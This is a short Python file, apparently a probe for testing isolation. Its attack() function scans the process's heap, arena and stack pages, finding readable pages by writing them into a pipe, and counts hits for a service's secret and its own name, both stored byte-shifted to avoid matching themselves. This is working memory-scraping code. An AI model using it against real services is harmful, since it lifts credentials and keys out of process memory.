"""Searches its whole memory for a secret that the service holds, and for its own name.

It may, and finds only itself. The words are shifted by a letter, so that they find no copy of
themselves; pages are asked for by writing them into a pipe, which fails where there are none.
"""

SECRET = b"uif!lfz!pg!uif!tfswjdf"
OWN_NAME = b"tfbsdi`nfnpsz"


def attack(target):
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
    libc.sbrk.restype = ctypes.c_void_p
    shifted = bytes((letter + 1) % 256 for letter in range(256))
    reading, writing = os.pipe()
    heap, arena, stack = libc.sbrk(0), id(target) & ~0xFFF, 0x7FFFFFFFF000
    places = ((heap - 2**27, heap), (arena - 2**25, arena + 2**25), (stack - 2**20, stack))
    found = {SECRET: 0, OWN_NAME: 0}
    for start, end in places:
        for page in range(start, end, 4096):
            if libc.write(writing, page, 1) == 1:
                os.read(reading, 1)
                text = ctypes.string_at(page, 4096).translate(shifted)
                for word in found:
                    found[word] += text.count(word)
    return [found[OWN_NAME] > 0, found[SECRET]]
